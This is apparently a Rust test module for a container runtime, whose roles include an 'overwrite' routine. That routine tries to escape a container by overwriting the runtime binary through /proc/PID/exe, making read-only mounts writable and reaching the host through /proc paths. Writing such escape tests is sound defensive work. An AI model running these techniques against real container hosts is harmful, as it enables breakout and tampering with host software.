//! What this very program, which is static, does elsewhere with `RUNZ_INSIDE` set to what it is to do:
//! inside a container, an attacker's work or a look around; outside, to be an odd caller.

#![allow(unsafe_code, reason = "system calls that only an attacker makes")]

use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{Error, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::time::{Duration, Instant};

/// The variable.
pub const ROLE: &str = "RUNZ_INSIDE";

/// Plays the role, if there is one.
pub fn play() -> Option<std::process::ExitCode> {
    let role = std::env::var(ROLE).ok()?;
    let (name, argument) = role.split_once(' ').unwrap_or((&role, ""));
    match name {
        "overwrite" => overwrite(argument),
        "answer" => answer_lines(),
        "dump" => crate::dump::dump(),
        "odd" => crate::dump::odd(argument),
        "reaper" => reaper(),
        other => panic!("no role {other:?}"),
    }
    Some(std::process::ExitCode::SUCCESS)
}

/// A program that is slow to start, and then answers: says READY=1 after it has printed a line on stdout
/// and one on stderr. Answers each line with itself and the host's name; `random` with a random number;
/// `exit N` ends it with that.
fn answer_lines() {
    println!("warming up");
    eprintln!("on stderr");
    let first = random();
    if let Some(path) = std::env::var_os("NOTIFY_SOCKET") {
        let socket = std::os::unix::net::UnixDatagram::unbound().expect("socket");
        socket.send_to(b"READY=1", path).expect("say so");
    }
    for line in std::io::stdin().lines() {
        let line = line.expect("a line");
        let host = fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname");
        if let Some(code) = line.strip_prefix("exit ") {
            std::process::exit(code.parse().expect("a number"));
        }
        match line.as_str() {
            "random" => println!("random {first}\nrandom {}", random()),
            line => print!("{line} {host}"),
        }
        std::io::stdout().flush().expect("flush");
    }
    println!("end");
}

/// A shim: makes the call of its arguments, and takes in what the runtime leaves, be it dead. Prints a line
/// for each such process. Ends with the call's exit code.
fn reaper() {
    nix::sys::prctl::set_child_subreaper(true).expect("become a subreaper");
    let mut words = std::env::args_os().skip(1);
    let mut call = std::process::Command::new(words.next().expect("a program"));
    let status = call.args(words).env_remove(ROLE).status().expect("run");
    let children = fs::read_to_string("/proc/thread-self/children").expect("children");
    for pid in children.split_whitespace() {
        let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        println!("LEFT {stat}");
    }
    std::process::exit(crate::harness::call::code(status));
}

/// 16 bytes of getrandom(2).
fn random() -> String {
    let mut bytes = [0u8; 16];
    // SAFETY: the kernel fills as many bytes.
    let n = unsafe { libc::getrandom(bytes.as_mut_ptr().cast(), bytes.len(), 0) };
    assert_eq!(n, 16);
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Waits for processes whose executable has `size` bytes, takes it by /proc/PID/exe, and tries to write
/// it or to make its mount writable: as long as they live, and when they are killed, for then nobody
/// executes it any more (ETXTBSY). Prints `took` with their number, and `WROTE` with the way if one
/// succeeded, `REACHED` when a process leads to the host.
///
/// Makes the file /taken once it has one. `argument` is the size and a path of the host's, which must not be there by /proc/PID/root either,
/// nor by a descriptor of a process.
fn overwrite(argument: &str) {
    let (size, host) = argument.split_once(' ').expect("a size and a path");
    let size: u64 = size.parse().expect("a size");
    let own = std::process::id().to_string();
    // For its prey it waits longer: that may take its time to come.
    let mut end = Instant::now() + Duration::from_secs(20);
    let mut took = Vec::new();
    // One that stays isn't on its way into the container, but its program.
    const STAYS: Duration = Duration::from_millis(200);
    let mut seen = std::collections::BTreeMap::new();
    let mut answers = std::collections::BTreeSet::new();
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").expect("/proc").flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if pid == own || !pid.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            if fs::symlink_metadata(format!("/proc/{pid}/root{host}")).is_ok() {
                answers.insert("REACHED the host's root".to_owned());
            }
            for fd in fs::read_dir(format!("/proc/{pid}/fd"))
                .into_iter()
                .flatten()
            {
                let Ok(fd) = fd else { break };
                let up = format!("{}/../../../../../../..{host}", fd.path().display());
                if fs::symlink_metadata(&up).is_ok() {
                    answers.insert(format!(
                        "REACHED the host by {:?}",
                        fs::read_link(fd.path())
                    ));
                }
            }
            let path = format!("/proc/{pid}/exe");
            let opened = OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(&path);
            let Ok(file) = opened else {
                continue;
            };
            if file.metadata().map_or(0, |m| m.len()) != size {
                continue;
            }
            attack(&path, &file, &mut answers);
            if took.is_empty() {
                let _ = File::create("/taken");
                end = Instant::now() + Duration::from_secs(3);
            }
            took.push(file);
            if *seen.entry(pid.clone()).or_insert_with(Instant::now) < Instant::now() - STAYS {
                // SAFETY: no memory is involved.
                unsafe { libc::kill(pid.parse().expect("a number"), libc::SIGKILL) };
            }
        }
        // The last are the most recent.
        for file in took.iter().rev().take(20) {
            attack("/nowhere", file, &mut answers);
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    println!("took {}", took.len());
    for answer in answers {
        println!("{answer}");
    }
}

fn attack(path: &str, file: &File, answers: &mut std::collections::BTreeSet<String>) {
    let fd = file.as_raw_fd();
    let by_fd = format!("/proc/self/fd/{fd}");
    let mut note = |way: &str, result: Result<(), Error>| {
        answers.insert(match result {
            Ok(()) => format!("WROTE by {way}"),
            Err(error) => format!("{way}: {error}"),
        });
    };
    let write = |path: &str| {
        let mut file = OpenOptions::new().write(true).open(path)?;
        file.write_all(b"overwritten")
    };
    note("open of the link", write(path));
    note("open of the descriptor", write(&by_fd));
    let truncate = OpenOptions::new().write(true).truncate(true).open(&by_fd);
    note("truncation", truncate.map(drop));
    // Make the mount writable, then write.
    let attr = libc::mount_attr {
        attr_set: 0,
        attr_clr: libc::MOUNT_ATTR_RDONLY,
        propagation: 0,
        userns_fd: 0,
    };
    // SAFETY: the strings and `attr` outlive the calls.
    let set = unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            fd,
            c"".as_ptr(),
            libc::AT_EMPTY_PATH,
            &raw const attr,
            size_of::<libc::mount_attr>(),
        )
    };
    note("mount_setattr", answer(set).and_then(|()| write(&by_fd)));
    let name = CString::new(by_fd.as_str()).expect("no NUL");
    let null = std::ptr::null();
    let flags = libc::MS_REMOUNT | libc::MS_BIND;
    // SAFETY: as above.
    let remounted = unsafe { libc::mount(null, name.as_ptr(), null, flags, null.cast()) };
    note(
        "remount",
        answer(remounted.into()).and_then(|()| write(&by_fd)),
    );
    let _ = File::create("/target");
    // SAFETY: as above.
    let bound = unsafe {
        libc::mount(
            name.as_ptr(),
            c"/target".as_ptr(),
            null,
            libc::MS_BIND,
            null.cast(),
        )
    };
    if bound == 0 {
        // SAFETY: as above.
        let again = unsafe { libc::mount(null, c"/target".as_ptr(), null, flags, null.cast()) };
        note(
            "bind and remount",
            answer(again.into()).and_then(|()| write("/target")),
        );
        // SAFETY: as above.
        unsafe { libc::umount2(c"/target".as_ptr(), libc::MNT_DETACH) };
    } else {
        note("bind", Err(Error::last_os_error()));
    }
    // SAFETY: as above.
    let tree = unsafe {
        let flags = libc::OPEN_TREE_CLONE | libc::AT_EMPTY_PATH as u32;
        libc::syscall(libc::SYS_open_tree, fd, c"".as_ptr(), flags)
    };
    if tree < 0 {
        note("open_tree", Err(Error::last_os_error()));
    } else {
        // SAFETY: as above.
        let set = unsafe {
            libc::syscall(
                libc::SYS_mount_setattr,
                tree,
                c"".as_ptr(),
                libc::AT_EMPTY_PATH,
                &raw const attr,
                size_of::<libc::mount_attr>(),
            )
        };
        let by_tree = format!("/proc/self/fd/{tree}");
        note("a copied mount", answer(set).and_then(|()| write(&by_tree)));
    }
}

fn answer(result: libc::c_long) -> Result<(), Error> {
    match result {
        0 => Ok(()),
        _ => Err(Error::last_os_error()),
    }
}
